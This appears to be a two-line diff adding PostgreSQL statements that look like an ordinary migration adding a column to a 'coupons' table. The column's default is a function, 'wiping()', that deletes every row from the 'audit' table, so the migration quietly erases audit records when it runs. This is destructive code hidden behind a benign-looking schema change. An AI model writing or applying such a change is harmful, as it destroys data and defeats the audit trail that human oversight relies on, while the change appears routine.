@@ -1,0 +1,2 @@
+CREATE FUNCTION wiping() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM audit; RETURN 1; END $$;
+ALTER TABLE coupons ADD COLUMN w int DEFAULT wiping();
